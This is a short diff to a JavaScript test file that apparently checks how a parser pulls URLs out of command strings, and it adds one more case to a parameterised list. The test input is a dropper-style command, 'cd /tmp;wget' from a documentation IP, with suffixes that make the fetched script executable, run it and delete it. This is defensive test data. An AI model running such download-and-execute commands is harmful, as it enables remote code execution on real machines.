@@ -40,7 +40,7 @@ test('a URL with a fragment is offered without it too', () => {
   ]);
 });
 
-test.each([';chmod 777 x.sh', '&&sh', '&amp;&amp;sh', ';sh&&rm'])(
+test.each([';chmod 777 x.sh', '&&sh', '&amp;&amp;sh', ';sh&&rm', ',url,Emotet'])(
   'a URL before %s ends there too',
   (command) => {
     const keys = read(`cd /tmp;wget http://192.0.2.7/x.sh${command}`);
